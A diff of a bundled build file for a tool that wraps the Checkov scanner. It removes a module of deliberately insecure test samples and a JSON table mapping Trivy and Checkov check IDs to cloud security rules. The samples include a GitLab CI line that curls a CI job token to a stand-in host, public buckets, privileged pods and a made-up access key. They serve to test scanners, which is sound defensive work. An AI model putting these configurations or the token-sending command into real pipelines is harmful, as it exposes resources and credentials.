-;// CONCATENATED MODULE: ./build/js/tools/checkov/canary.js
-/** Put together here, so that no file of this repository looks as if it held a key. It belongs to nobody. */
-const madeUpKey = ['AKIA', 'QYLPMN5H', 'KQZT7W2X'].join('');
-const canary_canary = (format, expects, name, ...lines) => ({
-    format,
-    files: { [name]: `${lines.join('\n')}\n` },
-    expects,
-});
-const plannedBucket = { address: 'aws_s3_bucket.canary', mode: 'managed', type: 'aws_s3_bucket', name: 'canary' };
-const bucketValues = { bucket: 'gatehouse-canary', acl: 'public-read' };
-const plan = {
-    format_version: '1.2',
-    terraform_version: '1.9.0',
-    planned_values: { root_module: { resources: [{ ...plannedBucket, values: bucketValues }] } },
-    resource_changes: [{ ...plannedBucket, change: { actions: ['create'], before: null, after: bucketValues } }],
-    configuration: { root_module: { resources: [{ ...plannedBucket, expressions: {} }] } },
-};
-/** One for each format that Checkov reads. */
-const checkovCanaries = [
-    canary_canary('ansible', 'CKV_ANSIBLE_2', 'playbook.yml', '- name: Gatehouse canary', '  hosts: all', '  tasks:', '    - name: Download without looking at the certificate', '      ansible.builtin.get_url:', '        url: https://example.invalid/canary', '        dest: /opt/canary', '        validate_certs: false'),
-    canary_canary('argo-workflows', 'CKV_ARGO_1', 'workflow.yaml', 'apiVersion: argoproj.io/v1alpha1', 'kind: Workflow', 'metadata:', '  name: gatehouse-canary', 'spec:', '  entrypoint: canary', '  serviceAccountName: default', '  templates:', '    - name: canary', '      container:', '        image: canary'),
-    canary_canary('arm', 'CKV_AZURE_3', 'azuredeploy.json', '{', '  "$schema": "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#",', '  "contentVersion": "1.0.0.0",', '  "resources": [', '    {', '      "type": "Microsoft.Storage/storageAccounts",', '      "apiVersion": "2023-01-01",', '      "name": "gatehousecanary",', '      "properties": { "supportsHttpsTrafficOnly": false }', '    }', '  ]', '}'),
-    canary_canary('azure-pipelines', 'CKV_AZUREPIPELINES_1', 'azure-pipelines.yml', 'trigger: none', 'jobs:', '  - job: canary', '    container: alpine:latest', '    steps:', '      - script: echo canary'),
-    canary_canary('bicep', 'CKV_AZURE_3', 'main.bicep', "resource canary 'Microsoft.Storage/storageAccounts@2023-01-01' = {", "  name: 'gatehousecanary'", '  properties: {', '    supportsHttpsTrafficOnly: false', '  }', '}'),
-    canary_canary('bitbucket-pipelines', 'CKV_BITBUCKETPIPELINES_1', 'bitbucket-pipelines.yml', 'image: atlassian/default-image:latest', 'pipelines:', '  default:', '    - step:', '        script:', '          - echo canary'),
-    canary_canary('circleci', 'CKV_CIRCLECIPIPELINES_1', '.circleci/config.yml', 'version: 2.1', 'jobs:', '  canary:', '    docker:', '      - image: cimg/base:latest', '    steps:', '      - run: echo canary'),
-    canary_canary('cloudformation', 'CKV_AWS_20', 'template.yaml', 'AWSTemplateFormatVersion: "2010-09-09"', 'Resources:', '  Canary:', '    Type: AWS::S3::Bucket', '    Properties:', '      AccessControl: PublicRead'),
-    canary_canary('dockerfile', 'CKV_DOCKER_8', 'Dockerfile', 'FROM scratch', 'EXPOSE 22', 'USER root'),
-    canary_canary('github-actions', 'CKV_GHA_1', '.github/workflows/canary.yml', 'name: Gatehouse canary', 'on: push', 'jobs:', '  canary:', '    runs-on: ubuntu-latest', '    steps:', '      - run: echo canary', '        env:', '          ACTIONS_ALLOW_UNSECURE_COMMANDS: "true"'),
-    canary_canary('gitlab-ci', 'CKV_GITLABCI_1', '.gitlab-ci.yml', 'canary:', '  image: alpine', '  script:', '    - curl "https://example.invalid/$CI_JOB_TOKEN"'),
-    canary_canary('kubernetes', 'CKV_K8S_16', 'pod.yaml', 'apiVersion: v1', 'kind: Pod', 'metadata:', '  name: gatehouse-canary', 'spec:', '  containers:', '    - name: canary', '      image: canary', '      securityContext:', '        privileged: true'),
-    canary_canary('openapi', 'CKV_OPENAPI_4', 'openapi.yaml', 'openapi: 3.0.0', 'info:', '  title: Gatehouse canary', '  version: 0.0.1', 'paths:', '  /canary:', '    get:', '      responses:', '        "200":', '          description: ok'),
-    canary_canary('secrets', 'CKV_SECRET_2', 'canary.yaml', `aws_access_key_id: ${madeUpKey}`),
-    canary_canary('serverless', 'CKV_AWS_20', 'serverless.yml', 'service: gatehouse-canary', 'provider:', '  name: aws', 'resources:', '  Resources:', '    Canary:', '      Type: AWS::S3::Bucket', '      Properties:', '        AccessControl: PublicRead'),
-    canary_canary('terraform', 'CKV_AWS_20', 'main.tf', 'resource "aws_s3_bucket" "canary" {', '  bucket = "gatehouse-canary"', '  acl    = "public-read"', '}'),
-    canary_canary('terraform-plan', 'CKV_AWS_20', 'tfplan.json', JSON.stringify(plan, undefined, 2)),
-];
 
 ;// CONCATENATED MODULE: ./build/js/tools/checkov/checks.js
+
 
 /** Python, and policies in YAML or JSON. Checkov 3.3.30 loads no Python from a folder without `__init__.py`, and says nothing. */
 const checkovChecks = {
     isCheck: (path) => /(?:^|\/)(?!__init__\.py$)[^/.][^/]*\.(?:py|ya?ml|json)$/.test(path),
     isProgram: (path) => path.endsWith('.py'),
     beside: (paths) => sortedUnique(paths.filter((path) => path.endsWith('.py')).map((path) => path.replace(/[^/]+$/, '__init__.py'))),
+    mistakes: findCheckovMistakes,
     complaints: [
         /\bFailed to parse check id '.{0,200}' from file (.{1,200}?): /,
         /\] {1,4}Loaded data from JSON is not Dict\b/,
@@ -58033,6 +59069,8 @@ const checkovFormats = readings.map(({ format }) => format);
 const frameworksOf = (formats) => readings.filter(({ format }) => formats.includes(format)).flatMap(({ frameworks }) => frameworks);
 /** Our name of the format that a report of Checkov (`check_type`) is about. */
 const formatOf = (framework) => readings.find(({ frameworks }) => frameworks.includes(framework))?.format ?? framework.replaceAll('_', '-');
+/** Everything that a framework opens, and the values that Terraform takes from files of their own. */
+const mayOpen = (path) => /\.(?:tf|tofu|tfvars|hcl|ya?ml|json|template|bicep)$/.test(path) || dockerfile.test(path);
 /** Files in which Checkov searches no secrets although it would by their ending; of folders, every path that holds the word. */
 const noSecretsIn = /(?:^|\/)(?:Pipfile\.lock|yarn\.lock|package-lock\.json|requirements\.txt|go\.sum)$|\.git|\.idea|\.external_modules|venv/;
 /** It skips larger files; `CHECKOV_MAX_FILE_SIZE` would lift that, at seven seconds for each megabyte. */
@@ -58270,31 +59308,8 @@ const byCheck = new Map(severities.flatMap((severity) => checkov_severity_namesp
  * entry. Source: docs/knowledge.md.
  */
 const vendorSeverity = (checkId) => byCheck.get(checkId);
-
-;// CONCATENATED MODULE: ./build/js/knowledge/data/concepts.json
-const concepts_namespaceObject = /*#__PURE__*/JSON.parse('{"W":[{"id":"apigateway-access-logging","title":"API Gateway stages write access logs","trivy":["AWS-0001","AWS-0113","AWS-0116"],"checkov":["CKV_AWS_76","CKV_AWS_95"],"frameworks":["terraform","cloudformation"]},{"id":"apigateway-cache-encrypted","title":"API Gateway method cache is encrypted","trivy":["AWS-0002"],"checkov":["CKV_AWS_308"],"frameworks":["terraform"]},{"id":"apigateway-xray-tracing","title":"API Gateway stages use X-Ray tracing","trivy":["AWS-0003","AWS-0111"],"checkov":["CKV_AWS_73"],"frameworks":["terraform","cloudformation"]},{"id":"apigateway-domain-tls-policy","title":"API Gateway custom domain uses a modern TLS policy","trivy":["AWS-0005"],"checkov":["CKV_AWS_206"],"frameworks":["terraform"]},{"id":"apigateway-response-caching","title":"API Gateway method responses are cached","trivy":["AWS-0190"],"checkov":["CKV_AWS_225"],"frameworks":["terraform"]},{"id":"launch-config-no-public-ip","title":"Launch configuration gives no public address","trivy":["AWS-0009"],"checkov":["CKV_AWS_389"],"frameworks":["terraform"]},{"id":"cloudfront-access-logging","title":"CloudFront distribution writes access logs","trivy":["AWS-0010"],"checkov":["CKV_AWS_86"],"frameworks":["terraform","cloudformation"]},{"id":"cloudfront-waf","title":"CloudFront distribution is behind a WAF","trivy":["AWS-0011"],"checkov":["CKV_AWS_68"],"frameworks":["terraform","cloudformation"]},{"id":"cloudfront-https-only","title":"CloudFront viewers must use HTTPS","trivy":["AWS-0012"],"checkov":["CKV_AWS_34"],"frameworks":["terraform","cloudformation"]},{"id":"cloudtrail-all-regions","title":"CloudTrail trail covers every region","trivy":["AWS-0014"],"checkov":["CKV_AWS_67"],"frameworks":["terraform","cloudformation"]},{"id":"cloudtrail-cmk","title":"CloudTrail logs use a customer key","trivy":["AWS-0015"],"checkov":["CKV_AWS_35"],"frameworks":["terraform"]},{"id":"cloudtrail-log-validation","title":"CloudTrail log files are validated","trivy":["AWS-0016"],"checkov":["CKV_AWS_36"],"frameworks":["terraform","cloudformation"]},{"id":"cloudtrail-cloudwatch-logs","title":"CloudTrail is sent to CloudWatch Logs","trivy":["AWS-0162"],"checkov":["CKV2_AWS_10"],"frameworks":["terraform"]},{"id":"cloudwatch-log-group-cmk","title":"CloudWatch log group uses a KMS key","trivy":["AWS-0017"],"checkov":["CKV_AWS_158"],"frameworks":["terraform","cloudformation"]},{"id":"config-aggregator-all-regions","title":"Config aggregator covers every region","trivy":["AWS-0019"],"checkov":["CKV_AWS_121"],"frameworks":["terraform"]},{"id":"docdb-log-export","title":"DocumentDB exports its logs","trivy":["AWS-0020"],"checkov":["CKV_AWS_85"],"frameworks":["terraform","cloudformation"]},{"id":"docdb-encryption","title":"DocumentDB storage is encrypted","trivy":["AWS-0021"],"checkov":["CKV_AWS_74"],"frameworks":["terraform","cloudformation"]},{"id":"docdb-cmk","title":"DocumentDB uses a customer key","trivy":["AWS-0022"],"checkov":["CKV_AWS_182"],"frameworks":["terraform"]},{"id":"dax-encryption","title":"DAX cluster is encrypted at rest","trivy":["AWS-0023"],"checkov":["CKV_AWS_47"],"frameworks":["terraform","cloudformation"]},{"id":"dynamodb-pitr","title":"DynamoDB table has point-in-time recovery","trivy":["AWS-0024"],"checkov":["CKV_AWS_28"],"frameworks":["terraform","cloudformation"]},{"id":"dynamodb-cmk","title":"DynamoDB table uses a customer key","trivy":["AWS-0025"],"checkov":["CKV_AWS_119"],"frameworks":["terraform","cloudformation"]},{"id":"ebs-volume-encryption","title":"EBS volume is encrypted","trivy":["AWS-0026"],"checkov":["CKV_AWS_3"],"frameworks":["terraform","cloudformation"]},{"id":"ebs-volume-cmk","title":"EBS volume uses a customer key","trivy":["AWS-0027"],"checkov":["CKV_AWS_189"],"frameworks":["terraform"]},{"id":"ecr-scan-on-push","title":"ECR images are scanned on push","trivy":["AWS-0030"],"checkov":["CKV_AWS_163"],"frameworks":["terraform","cloudformation"]},{"id":"ecr-immutable-tags","title":"ECR tags cannot be overwritten","trivy":["AWS-0031"],"checkov":["CKV_AWS_51"],"frameworks":["terraform","cloudformation"]},{"id":"ecr-no-public-policy","title":"ECR repository policy is not public","trivy":["AWS-0032"],"checkov":["CKV_AWS_32"],"frameworks":["terraform","cloudformation"]},{"id":"ecs-container-insights","title":"ECS cluster has container insights","trivy":["AWS-0034"],"checkov":["CKV_AWS_65"],"frameworks":["terraform","cloudformation"]},{"id":"ecs-efs-transit-encryption","title":"ECS task encrypts EFS traffic","trivy":["AWS-0035"],"checkov":["CKV_AWS_97"],"frameworks":["terraform","cloudformation"]},{"id":"efs-encryption","title":"EFS file system is encrypted","trivy":["AWS-0037"],"checkov":["CKV_AWS_42"],"frameworks":["terraform","cloudformation"]},{"id":"eks-control-plane-logging","title":"EKS control plane writes all log types","trivy":["AWS-0038"],"checkov":["CKV_AWS_37"],"frameworks":["terraform"]},{"id":"eks-secrets-encryption","title":"EKS secrets are encrypted with KMS","trivy":["AWS-0039"],"checkov":["CKV_AWS_58"],"frameworks":["terraform","cloudformation"]},{"id":"eks-no-public-endpoint","title":"EKS API endpoint is not public","trivy":["AWS-0040"],"checkov":["CKV_AWS_39"],"frameworks":["terraform"]},{"id":"eks-public-endpoint-cidr","title":"EKS public endpoint is not open to every address","trivy":["AWS-0041"],"checkov":["CKV_AWS_38"],"frameworks":["terraform"]},{"id":"elasticsearch-audit-log","title":"Elasticsearch or OpenSearch domain writes the audit log","trivy":["AWS-0042"],"checkov":["CKV_AWS_317"],"frameworks":["terraform","cloudformation"]},{"id":"elasticsearch-https","title":"Elasticsearch or OpenSearch domain enforces HTTPS","trivy":["AWS-0046"],"checkov":["CKV_AWS_83"],"frameworks":["terraform","cloudformation"]},{"id":"elasticsearch-encryption-at-rest","title":"Elasticsearch or OpenSearch domain is encrypted at rest","trivy":["AWS-0048"],"checkov":["CKV_AWS_5"],"frameworks":["terraform","cloudformation"]},{"id":"elasticsearch-tls-policy","title":"Elasticsearch or OpenSearch endpoint has a TLS 1.2 policy","trivy":["AWS-0126"],"checkov":["CKV_AWS_228"],"frameworks":["terraform"]},{"id":"elasticache-replication-at-rest","title":"ElastiCache replication group is encrypted at rest","trivy":["AWS-0045"],"checkov":["CKV_AWS_29"],"frameworks":["terraform","cloudformation"]},{"id":"elasticache-replication-transit","title":"ElastiCache replication group encrypts traffic","trivy":["AWS-0051"],"checkov":["CKV_AWS_30"],"frameworks":["terraform","cloudformation"]},{"id":"elasticache-redis-backup","title":"ElastiCache Redis keeps snapshots","trivy":["AWS-0050"],"checkov":["CKV_AWS_134"],"frameworks":["terraform"]},{"id":"alb-drop-invalid-headers","title":"Application load balancer drops invalid headers","trivy":["AWS-0052"],"checkov":["CKV_AWS_131"],"frameworks":["terraform","cloudformation"]},{"id":"alb-listener-https","title":"Load balancer listener does not serve plain HTTP","trivy":["AWS-0054"],"checkov":["CKV_AWS_2"],"frameworks":["terraform","cloudformation"]},{"id":"iam-password-lowercase","title":"IAM password policy asks for a lowercase letter","trivy":["AWS-0058"],"checkov":["CKV_AWS_11"],"frameworks":["terraform"]},{"id":"iam-password-number","title":"IAM password policy asks for a digit","trivy":["AWS-0059"],"checkov":["CKV_AWS_12"],"frameworks":["terraform"]},{"id":"iam-password-symbol","title":"IAM password policy asks for a symbol","trivy":["AWS-0060"],"checkov":["CKV_AWS_14"],"frameworks":["terraform"]},{"id":"iam-password-uppercase","title":"IAM password policy asks for an uppercase letter","trivy":["AWS-0061"],"checkov":["CKV_AWS_15"],"frameworks":["terraform"]},{"id":"iam-password-max-age","title":"IAM passwords expire within 90 days","trivy":["AWS-0062"],"checkov":["CKV_AWS_9"],"frameworks":["terraform"]},{"id":"iam-password-min-length","title":"IAM passwords have 14 characters or more","trivy":["AWS-0063"],"checkov":["CKV_AWS_10"],"frameworks":["terraform"]},{"id":"iam-no-root-access-key","title":"Root user has no access key","trivy":["AWS-0141"],"checkov":["CKV_AWS_348"],"frameworks":["terraform"]},{"id":"kms-key-rotation","title":"KMS key rotates","trivy":["AWS-0065"],"checkov":["CKV_AWS_7"],"frameworks":["terraform"]},{"id":"mq-audit-log","title":"MQ broker writes the audit log","trivy":["AWS-0070"],"checkov":["CKV_AWS_197"],"frameworks":["terraform","cloudformation"]},{"id":"mq-general-log","title":"MQ broker writes the general log","trivy":["AWS-0071"],"checkov":["CKV_AWS_48"],"frameworks":["terraform"]},{"id":"mq-no-public-access","title":"MQ broker is not public","trivy":["AWS-0072"],"checkov":["CKV_AWS_69"],"frameworks":["terraform","cloudformation"]},{"id":"msk-logging","title":"MSK cluster writes broker logs","trivy":["AWS-0074"],"checkov":["CKV_AWS_80"],"frameworks":["terraform","cloudformation"]},{"id":"neptune-log-export","title":"Neptune exports its audit log","trivy":["AWS-0075"],"checkov":["CKV_AWS_101"],"frameworks":["terraform","cloudformation"]},{"id":"neptune-encryption","title":"Neptune storage is encrypted","trivy":["AWS-0076"],"checkov":["CKV_AWS_44"],"frameworks":["terraform","cloudformation"]},{"id":"neptune-cmk","title":"Neptune uses a customer key","trivy":["AWS-0128"],"checkov":["CKV_AWS_347"],"frameworks":["terraform"]},{"id":"rds-performance-insights-cmk","title":"RDS Performance Insights uses a customer key","trivy":["AWS-0078"],"checkov":["CKV_AWS_354"],"frameworks":["terraform"]},{"id":"rds-performance-insights","title":"RDS Performance Insights is on","trivy":["AWS-0133"],"checkov":["CKV_AWS_353"],"frameworks":["terraform"]},{"id":"rds-instance-encryption","title":"RDS instance storage is encrypted","trivy":["AWS-0080"],"checkov":["CKV_AWS_16"],"frameworks":["terraform","cloudformation"]},{"id":"rds-iam-auth","title":"RDS instance allows IAM authentication","trivy":["AWS-0176"],"checkov":["CKV_AWS_161"],"frameworks":["terraform","cloudformation"]},{"id":"rds-deletion-protection","title":"RDS instance has deletion protection","trivy":["AWS-0177"],"checkov":["CKV_AWS_293"],"frameworks":["terraform"]},{"id":"rds-cluster-deletion-protection","title":"RDS cluster has deletion protection","trivy":["AWS-0343"],"checkov":["CKV_AWS_139"],"frameworks":["terraform"]},{"id":"rds-no-public-access","title":"RDS instance is not public","trivy":["AWS-0180"],"checkov":["CKV_AWS_17"],"frameworks":["terraform","cloudformation"]},{"id":"redshift-in-vpc","title":"Redshift cluster is in a VPC","trivy":["AWS-0127"],"checkov":["CKV_AWS_154"],"frameworks":["terraform","cloudformation"]},{"id":"s3-block-public-acls","title":"S3 public access block blocks public ACLs","trivy":["AWS-0086"],"checkov":["CKV_AWS_53"],"frameworks":["terraform","cloudformation"]},{"id":"s3-block-public-policy","title":"S3 public access block blocks public policies","trivy":["AWS-0087"],"checkov":["CKV_AWS_54"],"frameworks":["terraform","cloudformation"]},{"id":"s3-ignore-public-acls","title":"S3 public access block ignores public ACLs","trivy":["AWS-0091"],"checkov":["CKV_AWS_55"],"frameworks":["terraform","cloudformation"]},{"id":"s3-restrict-public-buckets","title":"S3 public access block restricts public buckets","trivy":["AWS-0093"],"checkov":["CKV_AWS_56"],"frameworks":["terraform","cloudformation"]},{"id":"s3-access-logging","title":"S3 bucket writes access logs","trivy":["AWS-0089"],"checkov":["CKV_AWS_18"],"frameworks":["terraform","cloudformation"]},{"id":"s3-versioning","title":"S3 bucket is versioned","trivy":["AWS-0090"],"checkov":["CKV_AWS_21"],"frameworks":["terraform","cloudformation"]},{"id":"sns-topic-encryption","title":"SNS topic is encrypted","trivy":["AWS-0095"],"checkov":["CKV_AWS_26"],"frameworks":["terraform","cloudformation"]},{"id":"sqs-queue-encryption","title":"SQS queue is encrypted","trivy":["AWS-0096"],"checkov":["CKV_AWS_27"],"frameworks":["terraform","cloudformation"]},{"id":"sqs-customer-key","title":"SQS queue does not use the AWS managed key","trivy":["AWS-0135"],"checkov":["CKV2_AWS_73"],"frameworks":["terraform"]},{"id":"secretsmanager-cmk","title":"Secrets Manager secret uses a customer key","trivy":["AWS-0098"],"checkov":["CKV_AWS_149"],"frameworks":["terraform","cloudformation"]},{"id":"vpc-no-default","title":"Default VPC is not used","trivy":["AWS-0101"],"checkov":["CKV_AWS_148"],"frameworks":["terraform"]},{"id":"vpc-flow-logs","title":"VPC has flow logs","trivy":["AWS-0178"],"checkov":["CKV2_AWS_11"],"frameworks":["terraform"]},{"id":"subnet-no-public-ip","title":"Subnet gives no public addresses by default","trivy":["AWS-0164"],"checkov":["CKV_AWS_130"],"frameworks":["terraform"]},{"id":"emr-transit-encryption","title":"EMR encrypts traffic","trivy":["AWS-0138"],"checkov":["CKV_AWS_351"],"frameworks":["terraform"]},{"id":"appservice-client-cert","title":"App Service asks for client certificates","trivy":["AZU-0001"],"checkov":["CKV_AZURE_17"],"frameworks":["terraform"]},{"id":"appservice-managed-identity","title":"App Service has an identity","trivy":["AZU-0002"],"checkov":["CKV_AZURE_16","CKV_AZURE_71"],"frameworks":["terraform"]},{"id":"appservice-authentication","title":"App Service authentication is on","trivy":["AZU-0003"],"checkov":["CKV_AZURE_13"],"frameworks":["terraform"]},{"id":"functionapp-https-only","title":"Function app serves HTTPS only","trivy":["AZU-0004"],"checkov":["CKV_AZURE_70"],"frameworks":["terraform"]},{"id":"appservice-http2","title":"App Service uses HTTP/2","trivy":["AZU-0005"],"checkov":["CKV_AZURE_18"],"frameworks":["terraform"]},{"id":"appservice-tls","title":"App Service has TLS 1.2 or newer","trivy":["AZU-0006"],"checkov":["CKV_AZURE_15"],"frameworks":["terraform"]},{"id":"appservice-ftps","title":"App Service has no plain FTP","trivy":["AZU-0071"],"checkov":["CKV_AZURE_78"],"frameworks":["terraform"]},{"id":"appservice-https-only","title":"App Service serves HTTPS only","trivy":["AZU-0072"],"checkov":["CKV_AZURE_14"],"frameworks":["terraform"]},{"id":"storage-container-private","title":"Blob container is private","trivy":["AZU-0007"],"checkov":["CKV_AZURE_34"],"frameworks":["terraform"]},{"id":"storage-https-only","title":"Storage account takes HTTPS only","trivy":["AZU-0008"],"checkov":["CKV_AZURE_3"],"frameworks":["terraform"]},{"id":"storage-min-tls","title":"Storage account has TLS 1.2 or newer","trivy":["AZU-0011"],"checkov":["CKV_AZURE_44"],"frameworks":["terraform"]},{"id":"storage-default-deny","title":"Storage network rules deny by default","trivy":["AZU-0012"],"checkov":["CKV_AZURE_35"],"frameworks":["terraform"]},{"id":"storage-geo-redundant","title":"Storage account replicates across regions","trivy":["AZU-0058"],"checkov":["CKV_AZURE_206"],"frameworks":["terraform"]},{"id":"keyvault-network-acl","title":"Key Vault network rules deny by default","trivy":["AZU-0013"],"checkov":["CKV_AZURE_109"],"frameworks":["terraform"]},{"id":"keyvault-key-expiry","title":"Key Vault keys expire","trivy":["AZU-0014"],"checkov":["CKV_AZURE_40"],"frameworks":["terraform"]},{"id":"keyvault-secret-content-type","title":"Key Vault secrets have a content type","trivy":["AZU-0015"],"checkov":["CKV_AZURE_114"],"frameworks":["terraform"]},{"id":"keyvault-secret-expiry","title":"Key Vault secrets expire","trivy":["AZU-0017"],"checkov":["CKV_AZURE_41"],"frameworks":["terraform"]},{"id":"mssql-alert-email","title":"SQL threat alerts have an address","trivy":["AZU-0018"],"checkov":["CKV_AZURE_26"],"frameworks":["terraform"]},{"id":"mssql-alert-admins","title":"SQL threat alerts go to the admins","trivy":["AZU-0023"],"checkov":["CKV_AZURE_27"],"frameworks":["terraform"]},{"id":"mssql-all-alerts","title":"No SQL threat alert is disabled","trivy":["AZU-0028"],"checkov":["CKV_AZURE_25"],"frameworks":["terraform"]},{"id":"mssql-auditing","title":"SQL server auditing is on","trivy":["AZU-0027"],"checkov":["CKV_AZURE_23"],"frameworks":["terraform"]},{"id":"monitor-all-activities","title":"Log profile takes every activity category","trivy":["AZU-0033"],"checkov":["CKV_AZURE_38"],"frameworks":["terraform"]},{"id":"synapse-managed-vnet","title":"Synapse workspace uses a managed network","trivy":["AZU-0034"],"checkov":["CKV_AZURE_58"],"frameworks":["terraform"]},{"id":"datafactory-no-public-access","title":"Data Factory is not public","trivy":["AZU-0035"],"checkov":["CKV_AZURE_104"],"frameworks":["terraform"]},{"id":"datalake-encryption","title":"Data Lake store is encrypted","trivy":["AZU-0036"],"checkov":["CKV_AZURE_105"],"frameworks":["terraform"]},{"id":"managed-disk-encryption","title":"Managed disk encryption is not off","trivy":["AZU-0038"],"checkov":["CKV_AZURE_2"],"frameworks":["terraform"]},{"id":"linux-vm-no-password","title":"Linux machine does not take passwords","trivy":["AZU-0039"],"checkov":["CKV_AZURE_1"],"frameworks":["terraform"]},{"id":"aks-monitoring","title":"AKS sends logs to Azure Monitor","trivy":["AZU-0040"],"checkov":["CKV_AZURE_4"],"frameworks":["terraform"]},{"id":"aks-authorized-ips","title":"AKS API server is limited to address ranges","trivy":["AZU-0041"],"checkov":["CKV_AZURE_6"],"frameworks":["terraform"]},{"id":"aks-rbac","title":"AKS has RBAC on","trivy":["AZU-0042"],"checkov":["CKV_AZURE_5"],"frameworks":["terraform"]},{"id":"aks-network-policy","title":"AKS has a network policy","trivy":["AZU-0043"],"checkov":["CKV_AZURE_7"],"frameworks":["terraform"]},{"id":"aks-private-cluster","title":"AKS cluster is private","trivy":["AZU-0065"],"checkov":["CKV_AZURE_115"],"frameworks":["terraform"]},{"id":"aks-azure-policy","title":"AKS has the Azure Policy add-on","trivy":["AZU-0066"],"checkov":["CKV_AZURE_116"],"frameworks":["terraform"]},{"id":"aks-disk-encryption-set","title":"AKS uses a disk encryption set","trivy":["AZU-0067"],"checkov":["CKV_AZURE_117"],"frameworks":["terraform"]},{"id":"defender-alert-notifications","title":"Security contact gets alert mail","trivy":["AZU-0044"],"checkov":["CKV_AZURE_21"],"frameworks":["terraform"]},{"id":"defender-standard-tier","title":"Defender plan is not the free tier","trivy":["AZU-0045"],"checkov":["CKV_AZURE_19"],"frameworks":["terraform"]},{"id":"defender-contact-phone","title":"Security contact has a phone number","trivy":["AZU-0046"],"checkov":["CKV_AZURE_20"],"frameworks":["terraform"]},{"id":"defender-contact-email","title":"Security contact has an address","trivy":["AZU-0062"],"checkov":["CKV_AZURE_131"],"frameworks":["terraform"]},{"id":"nsg-no-public-rdp","title":"Network rule does not open RDP to the internet","trivy":["AZU-0048"],"checkov":["CKV_AZURE_9"],"frameworks":["terraform"]},{"id":"nsg-no-public-ssh","title":"Network rule does not open SSH to the internet","trivy":["AZU-0050"],"checkov":["CKV_AZURE_10"],"frameworks":["terraform"]},{"id":"nic-no-ip-forwarding","title":"Network interface does not forward packets","trivy":["AZU-0075"],"checkov":["CKV_AZURE_118"],"frameworks":["terraform"]},{"id":"nic-no-public-ip","title":"Network interface has no public address","trivy":["AZU-0076"],"checkov":["CKV_AZURE_119"],"frameworks":["terraform"]},{"id":"do-firewall-no-public-ingress","title":"DigitalOcean firewall does not open inbound to all","trivy":["DIG-0001"],"checkov":["CKV_DIO_4"],"frameworks":["terraform"]},{"id":"do-droplet-ssh-key","title":"DigitalOcean droplet uses SSH keys","trivy":["DIG-0004"],"checkov":["CKV_DIO_2"],"frameworks":["terraform"]},{"id":"do-spaces-versioning","title":"DigitalOcean bucket is versioned","trivy":["DIG-0007"],"checkov":["CKV_DIO_1"],"frameworks":["terraform"]},{"id":"gcs-no-public-access","title":"Storage bucket is not granted to everyone","trivy":["GCP-0001"],"checkov":["CKV_GCP_28"],"frameworks":["terraform"]},{"id":"gcs-uniform-access","title":"Storage bucket has uniform access","trivy":["GCP-0002"],"checkov":["CKV_GCP_29"],"frameworks":["terraform"]},{"id":"gcs-access-logging","title":"Storage bucket writes access logs","trivy":["GCP-0077"],"checkov":["CKV_GCP_62"],"frameworks":["terraform"]},{"id":"gcs-versioning","title":"Storage bucket is versioned","trivy":["GCP-0078"],"checkov":["CKV_GCP_78"],"frameworks":["terraform"]},{"id":"gcp-folder-default-sa","title":"No roles for default service accounts on folders","trivy":["GCP-0004"],"checkov":["CKV_GCP_48"],"frameworks":["terraform"]},{"id":"gcp-project-default-sa","title":"No roles for default service accounts on projects","trivy":["GCP-0006"],"checkov":["CKV_GCP_46"],"frameworks":["terraform"]},{"id":"gcp-org-default-sa","title":"No roles for default service accounts on the organization","trivy":["GCP-0008"],"checkov":["CKV_GCP_47"],"frameworks":["terraform"]},{"id":"gcp-project-sa-impersonation","title":"No service account user or token roles on projects","trivy":["GCP-0011"],"checkov":["CKV_GCP_41"],"frameworks":["terraform"]},{"id":"gcp-no-default-network","title":"Project has no default network","trivy":["GCP-0010"],"checkov":["CKV_GCP_27"],"frameworks":["terraform"]},{"id":"gcp-dns-no-rsasha1","title":"DNSSEC does not use RSA SHA-1","trivy":["GCP-0012"],"checkov":["CKV_GCP_17"],"frameworks":["terraform"]},{"id":"gcp-dnssec","title":"DNS zone uses DNSSEC","trivy":["GCP-0013"],"checkov":["CKV_GCP_16"],"frameworks":["terraform"]},{"id":"cloudsql-require-tls","title":"Cloud SQL requires TLS","trivy":["GCP-0015"],"checkov":["CKV_GCP_6"],"frameworks":["terraform"]},{"id":"cloudsql-log-connections","title":"Cloud SQL logs connections","trivy":["GCP-0016"],"checkov":["CKV_GCP_52"],"frameworks":["terraform"]},{"id":"cloudsql-log-lock-waits","title":"Cloud SQL logs lock waits","trivy":["GCP-0020"],"checkov":["CKV_GCP_54"],"frameworks":["terraform"]},{"id":"cloudsql-no-statement-log","title":"Cloud SQL does not log statements by duration","trivy":["GCP-0021"],"checkov":["CKV_GCP_57"],"frameworks":["terraform"]},{"id":"cloudsql-log-disconnections","title":"Cloud SQL logs disconnections","trivy":["GCP-0022"],"checkov":["CKV_GCP_53"],"frameworks":["terraform"]},{"id":"cloudsql-log-checkpoints","title":"Cloud SQL logs checkpoints","trivy":["GCP-0025"],"checkov":["CKV_GCP_51"],"frameworks":["terraform"]},{"id":"cloudsql-no-local-infile","title":"MySQL has local_infile off","trivy":["GCP-0026"],"checkov":["CKV_GCP_50"],"frameworks":["terraform"]},{"id":"cloudsql-backup","title":"Cloud SQL has backups","trivy":["GCP-0024"],"checkov":["CKV_GCP_14"],"frameworks":["terraform"]},{"id":"gcp-subnet-flow-logs","title":"Subnetwork has flow logs","trivy":["GCP-0029","GCP-0076"],"checkov":["CKV_GCP_26"],"frameworks":["terraform"]},{"id":"gcp-subnet-private-access","title":"Subnetwork has private Google access","trivy":["GCP-0075"],"checkov":["CKV_GCP_74"],"frameworks":["terraform"]},{"id":"gce-no-project-ssh-keys","title":"Instance blocks project-wide SSH keys","trivy":["GCP-0030"],"checkov":["CKV_GCP_32"],"frameworks":["terraform"]},{"id":"gce-no-public-ip","title":"Instance has no public address","trivy":["GCP-0031"],"checkov":["CKV_GCP_40"],"frameworks":["terraform"]},{"id":"gce-no-serial-port","title":"Instance serial port is off","trivy":["GCP-0032"],"checkov":["CKV_GCP_35"],"frameworks":["terraform"]},{"id":"gce-oslogin-override","title":"Instance does not turn OS Login off","trivy":["GCP-0036"],"checkov":["CKV_GCP_34"],"frameworks":["terraform"]},{"id":"gce-no-ip-forwarding","title":"Instance does not forward packets","trivy":["GCP-0043"],"checkov":["CKV_GCP_36"],"frameworks":["terraform"]},{"id":"gce-no-default-sa","title":"Instance does not run as the default service account","trivy":["GCP-0044"],"checkov":["CKV_GCP_30"],"frameworks":["terraform"]},{"id":"gce-firewall-no-public-ssh","title":"Firewall does not open SSH to the 